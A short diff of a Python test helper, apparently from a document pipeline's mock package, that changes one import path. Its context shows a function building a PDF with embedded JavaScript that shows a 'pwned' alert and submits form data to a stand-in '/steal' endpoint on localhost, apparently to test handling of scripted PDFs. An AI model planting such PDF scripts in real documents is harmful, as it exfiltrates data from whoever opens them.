@@ -124,7 +124,7 @@ def javascript_pdf(text: str) -> bytes:
     from pypdf import PdfReader, PdfWriter
     from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
-    from mocks.llamaparse.testdata import build_text_pdf
+    from docpipe_dagster_mocks.llamaparse.testdata import build_text_pdf
 
     writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_text_pdf([text]))))
     script = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');"
